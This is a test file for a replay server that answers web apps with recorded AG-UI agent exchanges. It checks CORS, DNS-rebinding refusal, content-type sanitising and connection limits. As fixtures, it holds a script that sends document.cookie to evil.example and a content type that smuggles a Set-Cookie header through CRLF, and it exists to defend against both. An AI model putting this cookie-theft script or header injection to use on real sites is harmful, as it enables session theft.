import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { request, type IncomingHttpHeaders } from 'node:http';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { AGUI_MEDIA_TYPE } from '@ag-ui/proto';
import { MAX_CONNECTIONS, startReplay, type ReplayOptions, type ReplayServer } from '../../src/cli/replay.ts';
import { FormatError } from '../../src/formats/error.ts';
import type { CapturedExchange } from '../../src/exchange/exchange.ts';
import { writeHar } from '../../src/formats/har.ts';
import { ReplayPlan } from '../../src/recording/replay.ts';
import { listening, replayProcess } from '../support/replay.ts';

const utf8 = new TextEncoder();
const input = (threadId: string, runId: string, messages = 1) =>
  JSON.stringify({ threadId, runId, protocolVersion: '1.0', messages: Array.from({ length: messages }, (_, i) => ({ id: `m${i}`, role: 'user', content: 'hi' })) });
const sse = (threadId: string, runId: string) => [
  `data: {"type":"RUN_STARTED","threadId":"${threadId}","runId":"${runId}","protocolVersion":"1.0"}\n\n`,
  `data: {"type":"RUN_FINISHED","threadId":"${threadId}","runId":"${runId}"}\n\n`,
];

function recorded(url: string, threadId: string, runId: string, messages = 1, times = [0, 40]): CapturedExchange {
  return {
    source: `${threadId}/${runId}`,
    url,
    method: 'POST',
    status: 200,
    requestBody: input(threadId, runId, messages),
    requestContentType: 'application/json',
    responseContentType: 'text/event-stream',
    chunks: sse(threadId, runId).map((text, i) => ({ time: times[i]!, bytes: utf8.encode(text) })),
  };
}

const A = 'http://127.0.0.1:9/agent/chat';
const B = 'http://127.0.0.1:9/agent/tools';

describe('replay: which recorded exchange answers a request', () => {
  it('follows each thread in order on its endpoint, pairing a thread the recording does not know with the first free one', () => {
    const plan = new ReplayPlan([recorded(A, 't1', 'r1'), recorded(A, 't2', 'r3'), recorded(A, 't1', 'r2', 3), recorded(B, 't1', 'r4')]);
    const served = (path: string, body: string) => {
      const m = plan.match(path, body);
      assert.ok(m.ok, JSON.stringify(m));
      return m.index;
    };
    // The app's own thread ids: "app-x" takes the first recorded thread at /agent/chat, "app-y" the next free one.
    assert.equal(served('/agent/chat', input('app-x', 'a1')), 0);
    assert.equal(served('/agent/chat', input('app-y', 'a2')), 1);
    assert.equal(served('/agent/chat', input('app-x', 'a3', 3)), 2);
    // Another endpoint pairs threads of its own.
    assert.equal(served('/agent/tools', input('t1', 'r4')), 3);
    const done = plan.match('/agent/chat', input('app-x', 'a4'));
    assert.ok(!done.ok);
    assert.match(done.message, /no further exchange on this thread at \/agent\/chat: all 2 were replayed/);
  });

  it('names the closest recorded exchange and how the request differs', () => {
    const plan = new ReplayPlan([recorded(A, 't1', 'r1', 2)]);
    assert.ok(plan.match('/agent/chat', input('t1', 'r1', 2)).ok);
    const miss = plan.match('/agent/other', input('t1', 'r9', 5));
    assert.ok(!miss.ok);
    assert.equal(miss.message, 'the recording has no exchange at /agent/other');
    assert.equal(miss.closest?.index, 0);
    assert.deepEqual(miss.closest?.differences, [
      'the endpoint is /agent/other, the recording\'s /agent/chat',
      'runId "r9" is "r1" in the recording',
      '5 messages, the recording 2',
    ]);
  });

  it('answers a socket\'s input frame only with an exchange recorded on a socket at that path, and an HTTP request only with an HTTP one', () => {
    const onSocket: CapturedExchange = { ...recorded('ws://127.0.0.1:9/agent/chat', 't2', 'r2'), transport: 'websocket' };
    const plan = new ReplayPlan([recorded(A, 't1', 'r1'), onSocket]);
    assert.equal(plan.servesSocketAt('/agent/chat'), true);
    assert.equal(plan.servesSocketAt('/agent/tools'), false);
    const m = plan.match('/agent/chat', input('mine', 'x'), 'websocket');
    assert.ok(m.ok);
    assert.equal(m.index, 1);
    const http = plan.match('/agent/chat', input('other', 'y'));
    assert.ok(http.ok);
    assert.equal(http.index, 0);
    const none = plan.match('/agent/chat', input('third', 'z'), 'websocket');
    assert.ok(!none.ok);
    assert.equal(none.message, 'every recorded thread at /agent/chat (WebSocket) is already being replayed by another thread');
    const miss = new ReplayPlan([recorded(A, 't1', 'r1')]).match('/agent/chat', input('t1', 'r1'), 'websocket');
    assert.ok(!miss.ok);
    assert.deepEqual(miss.closest?.differences, ['this request came over a WebSocket, the recorded one over HTTP']);
  });

  it('answers an enveloped request (CopilotKit single route) by the input inside', () => {
    const plan = new ReplayPlan([{ ...recorded(A, 't1', 'r1'), requestBody: JSON.stringify({ method: 'agent/run', params: { agentId: 'x' }, body: JSON.parse(input('t1', 'r1')) }) }]);
    const m = plan.match('/agent/chat', JSON.stringify({ method: 'agent/run', body: JSON.parse(input('t1', 'r1')) }));
    assert.ok(m.ok && m.differences.length === 0, JSON.stringify(m));
  });
});

describe('replay: the server', () => {
  let server: ReplayServer;
  const session = [recorded(A, 't1', 'r1', 1, [0, 150]), { ...recorded(B, 't2', 'r2'), status: 422, responseContentType: 'application/json', chunks: [{ time: 0, bytes: utf8.encode('{"error":"bad input"}') }] }];
  before(async () => {
    server = await startReplay(session, { speed: 1 });
  });
  after(() => server.close());

  it('answers with the recorded status, content type and bytes (the request\'s ids in them), chunk by chunk at the recorded pace, with CORS', async () => {
    const t0 = performance.now();
    const res = await fetch(`${server.url}/agent/chat`, { method: 'POST', headers: { 'content-type': 'application/json', origin: 'http://127.0.0.1:5173' }, body: input('mine', 'r1') });
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-type'), 'text/event-stream');
    assert.equal(res.headers.get('access-control-allow-origin'), 'http://127.0.0.1:5173');
    const reader = res.body!.getReader();
    const got: { text: string; at: number }[] = [];
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      got.push({ text: new TextDecoder().decode(value), at: performance.now() - t0 });
    }
    // The app's thread is not the recorded one: the answer carries the app's ids (basic/run-input#identity), in the recorded chunks.
    assert.deepEqual(got.map((g) => g.text), sse('mine', 'r1'), 'the recorded chunks, in order, with the request\'s threadId');
    // The second chunk was recorded 150 ms after the request started: it is not sent before that.
    assert.ok(got[1]!.at >= 140, `second chunk after ${got[1]!.at} ms`);
  });

  it('replays a recorded error status, answers a preflight, and refuses what the recording cannot answer with the closest exchange', async () => {
    const rejected = await fetch(`${server.url}/agent/tools`, { method: 'POST', body: input('t2', 'r2') });
    assert.equal(rejected.status, 422);
    assert.equal(await rejected.text(), '{"error":"bad input"}');
    const preflight = await fetch(`${server.url}/agent/chat`, {
      method: 'OPTIONS',
      headers: { origin: 'http://localhost:3000', 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' },
    });
    assert.equal(preflight.status, 204);
    assert.equal(preflight.headers.get('access-control-allow-origin'), 'http://localhost:3000');
    assert.equal(preflight.headers.get('access-control-allow-headers'), 'content-type');
    const miss = await fetch(`${server.url}/agent/none`, { method: 'POST', body: input('t1', 'r1') });
    assert.equal(miss.status, 404);
    const why = (await miss.json()) as { error: string; message: string; closest: { index: number; differences: string[] } };
    assert.equal(why.error, 'not-in-recording');
    assert.equal(why.message, 'the recording has no exchange at /agent/none');
    assert.equal(why.closest.index, 0);
  });
});

interface Answer {
  status: number;
  headers: IncomingHttpHeaders;
  body: string;
}

/** One real HTTP request with the headers given as they are, Host and Origin included (fetch would set Host itself). */
function ask(base: string, path: string, o: { method?: string; headers?: Record<string, string>; body?: string } = {}): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request(base + path, { method: o.method ?? 'POST', headers: o.headers }, (res) => {
      const parts: Buffer[] = [];
      res.on('data', (b: Buffer) => parts.push(b));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(parts).toString('utf8') }));
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end(o.body);
  });
}

/** What a recording holds that no refused answer may give away: its URLs, ids and event text. */
const SECRETS = ['agent/chat', 't1', 'r1', 'RUN_STARTED'];
const givesNothingAway = (a: Answer) => {
  for (const s of SECRETS) assert.ok(!a.body.includes(s), `the answer names ${s}: ${a.body}`);
  assert.ok(!Object.keys(a.headers).some((h) => h.startsWith('access-control-')), `no CORS grant: ${JSON.stringify(a.headers)}`);
};

/** Starts a replay whose log is kept; `logged(re)` waits until a line matches. */
async function logging(exchanges: CapturedExchange[], o: ReplayOptions = {}) {
  const lines: string[] = [];
  const server = await startReplay(exchanges, { ...o, log: (l) => lines.push(l) });
  const logged = async (re: RegExp, ms = 3_000): Promise<string> => {
    for (const end = performance.now() + ms; performance.now() < end; await new Promise((r) => setTimeout(r, 20))) {
      const line = lines.find((l) => re.test(l));
      if (line) return line;
    }
    assert.fail(`nothing logged matches ${re} in ${ms} ms: ${JSON.stringify(lines)}`);
  };
  return { server, lines, logged };
}

describe('replay: only loopback pages, and the origins given, may read it', () => {
  let server: ReplayServer;
  let lines: string[];
  let port: string;
  before(async () => {
    ({ server, lines } = await logging([recorded(A, 't1', 'r1'), recorded(A, 't1', 'r2', 3), recorded(B, 't2', 'r3')], { speed: 'max', allowOrigins: ['https://app.example.com:8443/'] }));
    port = new URL(server.url).port;
  });
  after(() => server.close());

  it('refuses any other page with 403: no recorded data, no CORS grant, and the replay is not used up', async () => {
    const EVIL = ['https://evil.example', 'http://localhost.evil.example:8766', 'http://127.0.0.1.nip.io', 'null', 'http://localhost:3000, https://evil.example', 'file://', 'https://app.example.com', 'http://app.example.com:8443'];
    for (const origin of EVIL) {
      // A page's plain text/plain POST needs no preflight: it is refused all the same, at a recorded path or not.
      for (const path of ['/x', '/agent/chat', '/agent/chat?threadId=t1']) {
        const a = await ask(server.url, path, { headers: { origin, 'content-type': 'text/plain' }, body: input('evil-thread', 'evil-run') });
        assert.equal(a.status, 403, `${origin} ${path}`);
        assert.equal(JSON.parse(a.body).error, 'origin-not-allowed');
        givesNothingAway(a);
      }
      const info = await ask(server.url, '/', { method: 'GET', headers: { origin } });
      assert.equal(info.status, 403, origin);
    }
    assert.ok(lines.some((l) => l.includes('from https://evil.example → 403') && l.includes('--allow-origin https://evil.example')), lines.join('\n'));
    // Nothing was served: the app still gets the first recorded exchange of the thread.
    const a = await ask(server.url, '/agent/chat', { headers: { origin: 'http://localhost:5173' }, body: input('app', 'a1') });
    assert.equal(a.status, 200);
    assert.ok(lines.includes('POST /agent/chat → recorded exchange 0 (HTTP 200); differs: threadId "app" is "t1" in the recording; runId "a1" is "r1" in the recording'), lines.join('\n'));
    // Answered with the app's ids (basic/run-input#identity).
    assert.equal(a.body, sse('app', 'a1').join(''));
  });

  it('lets a loopback page on any port, a page given with --allow-origin, and a request with no Origin read it', async () => {
    const statuses: number[] = [];
    for (const origin of ['http://localhost:3000', 'http://127.0.0.1:5173', 'http://[::1]:8080', 'https://localhost', 'https://app.example.com:8443']) {
      const a = await ask(server.url, '/agent/tools', { headers: { origin }, body: input(`app-${origin}`, 'a') });
      statuses.push(a.status);
      assert.equal(a.headers['access-control-allow-origin'], origin);
      assert.equal(a.headers['access-control-allow-credentials'], 'true');
    }
    // The one recorded thread at /agent/tools goes to the first: the others read the 404 that says so.
    assert.deepEqual(statuses, [200, 404, 404, 404, 404]);
    const bare = await ask(server.url, '/', { method: 'GET' });
    assert.equal(bare.status, 200);
    assert.equal(bare.headers['access-control-allow-origin'], undefined);
  });

  it('gives the 404 naming the closest recorded exchange to an allowed page only', async () => {
    const allowed = await ask(server.url, '/nowhere', { headers: { origin: 'http://127.0.0.1:3000' }, body: input('t1', 'r1') });
    assert.equal(allowed.status, 404);
    assert.equal(JSON.parse(allowed.body).closest.url, A);
    const refused = await ask(server.url, '/nowhere', { headers: { origin: 'https://evil.example' }, body: input('t1', 'r1') });
    assert.equal(refused.status, 403);
    givesNothingAway(refused);
  });

  it('answers a CORS preflight for an allowed page only', async () => {
    const asking = { 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type, authorization', 'access-control-request-private-network': 'true' };
    const ok = await ask(server.url, '/agent/chat', { method: 'OPTIONS', headers: { origin: 'https://app.example.com:8443', ...asking } });
    assert.equal(ok.status, 204);
    assert.equal(ok.headers['access-control-allow-origin'], 'https://app.example.com:8443');
    assert.match(ok.headers['access-control-allow-methods']!, /\bPOST\b/);
    assert.equal(ok.headers['access-control-allow-headers'], 'content-type, authorization');
    assert.equal(ok.headers['access-control-allow-private-network'], 'true');
    const refused = await ask(server.url, '/agent/chat', { method: 'OPTIONS', headers: { origin: 'https://evil.example', ...asking } });
    assert.equal(refused.status, 403);
    givesNothingAway(refused);
  });

  it('refuses a request addressed to any other host name with 421 (DNS rebinding), whatever its Origin', async () => {
    for (const host of [`evil.example:${port}`, `localhost.evil.example:${port}`, `127.0.0.1:${Number(port) + 1}`, '127.0.0.1', `0.0.0.0:${port}`]) {
      for (const headers of [{ host }, { host, origin: `http://${host}` }, { host, origin: 'http://localhost:3000' }] as Record<string, string>[]) {
        const a = await ask(server.url, '/agent/chat', { headers, body: input('t1', 'r1') });
        assert.equal(a.status, 421, JSON.stringify(headers));
        assert.equal(JSON.parse(a.body).error, 'host-not-allowed');
        givesNothingAway(a);
      }
    }
    for (const host of [`localhost:${port}`, `LOCALHOST:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`]) {
      assert.equal((await ask(server.url, '/', { method: 'GET', headers: { host } })).status, 200, host);
    }
  });

  it('refuses an --allow-origin that names no origin', async () => {
    for (const v of ['*', 'evil.example', 'https://app.example.com/path', 'ftp://x.example', 'https://user@app.example.com']) {
      await assert.rejects(startReplay([recorded(A, 't1', 'r1')], { allowOrigins: [v] }), TypeError, v);
    }
  });
});

describe('replay: what it serves, and what it refuses to load', () => {
  const html = '<!doctype html><script>fetch("https://evil.example/?c=" + document.cookie)</script>';
  const as = (type: string, body: string, path: string): CapturedExchange => ({ ...recorded(`http://127.0.0.1:9${path}`, path, 'r'), responseContentType: type, chunks: [{ time: 0, bytes: utf8.encode(body) }] });
  const TYPES: [recorded: string, served: string][] = [
    ['text/html', 'application/octet-stream'],
    ['text/html; charset=utf-8', 'application/octet-stream'],
    ['application/javascript', 'application/octet-stream'],
    ['image/svg+xml', 'application/octet-stream'],
    ['text/plain', 'application/octet-stream'],
    ['', 'application/octet-stream'],
    ['text/event-stream', 'text/event-stream'],
    ['text/event-stream; charset=utf-8', 'text/event-stream; charset=utf-8'],
    [AGUI_MEDIA_TYPE, AGUI_MEDIA_TYPE],
    ['application/json', 'application/json'],
    ['application/x-ndjson', 'application/x-ndjson'],
    ['application/jsonl', 'application/jsonl'],
  ];
  let server: ReplayServer;
  before(async () => {
    server = await startReplay(TYPES.map(([type], i) => as(type, html, `/t${i}`)), { speed: 'max' });
  });
  after(() => server.close());

  it('serves AG-UI media types as recorded and anything else as application/octet-stream, nosniff and sandboxed', async () => {
    for (const [i, [type, served]] of TYPES.entries()) {
      const a = await ask(server.url, `/t${i}`, { headers: { origin: 'http://localhost:3000' }, body: input(`/t${i}`, 'r') });
      assert.equal(a.status, 200);
      assert.equal(a.headers['content-type'], served, type);
      assert.equal(a.body, html, 'the recorded bytes, whatever they are');
      assert.equal(a.headers['x-content-type-options'], 'nosniff');
      assert.equal(a.headers['content-security-policy'], "sandbox; default-src 'none'");
    }
  });

  it('sends nosniff and a sandboxing CSP on every other answer too', async () => {
    const answers = [
      await ask(server.url, '/none', { body: '{}' }),
      await ask(server.url, '/', { method: 'GET' }),
      await ask(server.url, '/', { method: 'DELETE' }),
      await ask(server.url, '/t0', { method: 'OPTIONS', headers: { origin: 'http://localhost:1', 'access-control-request-method': 'POST' } }),
      await ask(server.url, '/t0', { headers: { origin: 'https://evil.example' }, body: '{}' }),
      await ask(server.url, '/t0', { headers: { host: 'evil.example' }, body: '{}' }),
    ];
    assert.deepEqual(answers.map((a) => a.status), [404, 200, 405, 204, 403, 421]);
    for (const a of answers) {
      assert.equal(a.headers['x-content-type-options'], 'nosniff', String(a.status));
      assert.equal(a.headers['content-security-policy'], "sandbox; default-src 'none'", String(a.status));
    }
  });

  it('refuses, when loaded, a status, content type or chunk time it cannot answer with, naming the entry', () => {
    const bad: [Partial<CapturedExchange>, RegExp][] = [
      ...[101, 103, 0, 199, 600, 1000, 200.5].map((status): [Partial<CapturedExchange>, RegExp] => [{ status }, new RegExp(`^bad#3: the recorded status ${status} cannot be replayed: a replay answers with a final status from 200 to 599$`)]),
      ...['text/event-stream\r\nSet-Cookie: x=1', 'text/event-stream\n', 'text/event-stream\0', 'text/event-stream; x=€', 'text/event-stream; x=😀'].map(
        (t): [Partial<CapturedExchange>, RegExp] => [{ responseContentType: t }, /^bad#3: the recorded content type ".*" holds a character no HTTP header can carry/],
      ),
      ...[1e300, Infinity, NaN, 2 ** 31].map((time): [Partial<CapturedExchange>, RegExp] => [
        { chunks: [{ time: 0, bytes: utf8.encode('data: {}\n\n') }, { time, bytes: utf8.encode('data: {}\n\n') }] },
        /^bad#3: chunk 1 is recorded at .* ms: a replay waits for a finite time of at most 2147483647 ms/,
      ]),
    ];
    for (const [change, message] of bad) {
      const exchanges = [recorded(A, 't1', 'r1'), recorded(A, 't1', 'r2'), recorded(B, 't2', 'r3'), { ...recorded(B, 't2', 'r4'), source: 'bad#3', ...change }];
      assert.throws(() => new ReplayPlan(exchanges), (e: unknown) => e instanceof FormatError && message.test(e.message) && !e.message.includes('\n'), JSON.stringify(change));
    }
    // Latin-1 beyond ASCII is a header's to carry; a chunk at the longest timer is still a pace.
    assert.doesNotThrow(() => new ReplayPlan([{ ...recorded(A, 't1', 'r1'), responseContentType: 'text/event-stream; x=é', chunks: [{ time: 2 ** 31 - 1, bytes: new Uint8Array(1) }] }]));
  });
});

/** An app that POSTs t1/r1 on a raw socket, reads the start of the answer, stops reading (a large write then waits for 'drain') and goes away. */
async function goAwayMidAnswer(server: ReplayServer): Promise<void> {
  const { port } = new URL(server.url);
  const s = connect(Number(port), '127.0.0.1');
  const body = input('t1', 'r1');
  s.write(`POST /agent/chat HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`);
  await new Promise((r) => s.once('data', r));
  s.pause();
  await new Promise((r) => setTimeout(r, 200));
  s.destroy();
}

describe('replay: limits, and an app that goes away', () => {
  it('closes a connection that sends no request within its header timeout, and caps connections', async () => {
    const server = await startReplay([recorded(A, 't1', 'r1')]);
    const { port } = new URL(server.url);
    const sockets: Socket[] = [];
    const closedAt: number[] = [];
    const t0 = performance.now();
    try {
      for (let i = 0; i < MAX_CONNECTIONS + 20; i++) {
        const s = connect(Number(port), '127.0.0.1');
        s.on('error', () => {});
        // Read what comes (Node's 408), so the server's closing is seen.
        s.resume();
        s.on('close', () => closedAt.push(performance.now() - t0));
        sockets.push(s);
        await new Promise((r) => s.once('connect', r));
        // Half a request head, then nothing.
        s.write(`POST /agent/chat HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n`);
      }
      await new Promise((r) => setTimeout(r, 500));
      assert.ok(closedAt.length >= 20, `the sockets beyond the cap are closed at once (${closedAt.length} closed)`);
      assert.ok(closedAt.length < MAX_CONNECTIONS, `but not those under it (${closedAt.length} closed)`);
      // Node's own default waits a minute for a request's head; this one a few seconds.
      await new Promise<void>((resolve, reject) => {
        const check = setInterval(() => {
          if (closedAt.length === sockets.length) clearInterval(check), resolve();
          else if (performance.now() - t0 > 12_000) clearInterval(check), reject(new Error(`${sockets.length - closedAt.length} half-open sockets still open after 12 s`));
        }, 100);
      });
      // And once they are gone, the replay answers.
      const a = await ask(server.url, '/agent/chat', { body: input('t1', 'r1') });
      assert.equal(a.status, 200);
    } finally {
      for (const s of sockets) s.destroy();
      await server.close();
    }
  });

  it('stops waiting for a paced chunk when the app goes away', async () => {
    const { server, logged } = await logging([recorded(A, 't1', 'r1', 1, [0, 600_000])]);
    try {
      const timers = () => process.getActiveResourcesInfo().filter((r) => r === 'Timeout').length;
      const before = timers();
      await goAwayMidAnswer(server);
      assert.match(await logged(/went away/), /: the app went away after 1 of 2 chunks of recorded exchange 0$/);
      assert.equal(timers(), before, 'the ten-minute wait for the second chunk left no timer behind');
    } finally {
      await server.close();
    }
  });

  it('stops waiting for the socket to drain when the app goes away', async () => {
    const big = { ...recorded(A, 't1', 'r1'), chunks: [{ time: 0, bytes: new Uint8Array(32 * 1024 * 1024).fill(0x61) }] };
    const { server, logged } = await logging([big], { speed: 'max' });
    try {
      await goAwayMidAnswer(server);
      assert.match(await logged(/went away/), /: the app went away after 0 of 1 chunks of recorded exchange 0$/);
    } finally {
      await server.close();
    }
  });
});

const exited = (p: ReturnType<typeof replayProcess>) => new Promise<number | null>((resolve) => p.child.once('exit', resolve));

describe('agui-inspector replay (the command)', () => {
  let dir: string;
  let har: string;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'agui-replay-'));
    har = join(dir, 'session.har');
    writeFileSync(har, writeHar([recorded(A, 't1', 'r1')], { creator: { name: 'test', version: '0' } }));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('serves a HAR file on the given port until stopped, and says where', async () => {
    const p = replayProcess([har, '--port', '0', '--speed', 'max']);
    try {
      const url = await listening(p);
      assert.match(url, /^http:\/\/127\.0\.0\.1:\d+$/);
      const res = await fetch(`${url}/agent/chat`, { method: 'POST', body: input('t1', 'r1') });
      assert.equal(await res.text(), sse('t1', 'r1').join(''));
      assert.equal(p.err, '', 'no warning on loopback');
    } finally {
      p.child.kill();
    }
  });

  it('lets the pages of each --allow-origin read it, and no other', async () => {
    const p = replayProcess([har, '--port', '0', '--speed', 'max', '--allow-origin', 'https://app.example.com', '--allow-origin', 'http://10.0.0.5:3000']);
    try {
      const url = await listening(p);
      const refused = await ask(url, '/agent/chat', { headers: { origin: 'https://evil.example' }, body: input('t1', 'r1') });
      assert.equal(refused.status, 403);
      givesNothingAway(refused);
      const a = await ask(url, '/agent/chat', { headers: { origin: 'https://app.example.com' }, body: input('t1', 'r1') });
      assert.equal(a.status, 200);
      assert.equal(a.headers['access-control-allow-origin'], 'https://app.example.com');
      assert.match(p.out, /POST \/agent\/chat from https:\/\/evil\.example → 403/);
    } finally {
      p.child.kill();
    }
  });

  it('warns in one line that a non-loopback --host serves the recording to the network', async () => {
    const p = replayProcess([har, '--port', '0', '--host', '0.0.0.0']);
    try {
      const url = await listening(p);
      assert.equal(p.err, 'agui-inspector: warning: --host 0.0.0.0 is not a loopback address: the recording is served to the network, unauthenticated\n');
      // Still asked by its loopback name.
      const a = await ask(url.replace('0.0.0.0', '127.0.0.1'), '/', { method: 'GET' });
      assert.equal(a.status, 200);
    } finally {
      p.child.kill();
    }
  });

  it('exits 2 with a one-line reason for a file it cannot read, an entry it cannot replay, or an --allow-origin that is none', async () => {
    const missing = replayProcess([join(dir, 'missing.har')]);
    assert.equal(await exited(missing), 2);
    assert.equal(missing.err, `agui-inspector: ${join(dir, 'missing.har')}: cannot read file: no such file\n`);

    const cases: [Partial<CapturedExchange>, string][] = [
      [{ status: 101 }, 'the recorded status 101 cannot be replayed: a replay answers with a final status from 200 to 599'],
      [{ responseContentType: 'text/event-stream\r\nSet-Cookie: x=1' }, 'the recorded content type "text/event-stream\\r\\nSet-Cookie: x=1" holds a character no HTTP header can carry (CR, LF, another control character, or one beyond Latin-1)'],
      [{ chunks: [{ time: 1e300, bytes: utf8.encode(sse('t2', 'r2').join('')) }] }, 'chunk 0 is recorded at 1e+300 ms: a replay waits for a finite time of at most 2147483647 ms (about 24 days)'],
    ];
    for (const [change, why] of cases) {
      const file = join(dir, 'bad.har');
      writeFileSync(file, writeHar([recorded(A, 't1', 'r1'), { ...recorded(B, 't2', 'r2'), ...change }], { creator: { name: 'test', version: '0' } }));
      const p = replayProcess([file, '--port', '0']);
      assert.equal(await exited(p), 2, why);
      assert.equal(p.err, `agui-inspector: ${file}#entries/1: ${why}\n`);
    }

    const notOrigin = replayProcess([har, '--allow-origin', 'https://app.example.com/chat']);
    assert.equal(await exited(notOrigin), 2);
    assert.match(notOrigin.err, /^agui-inspector: --allow-origin "https:\/\/app\.example\.com\/chat" is not an origin: give scheme:\/\/host\[:port\]/);
  });
});
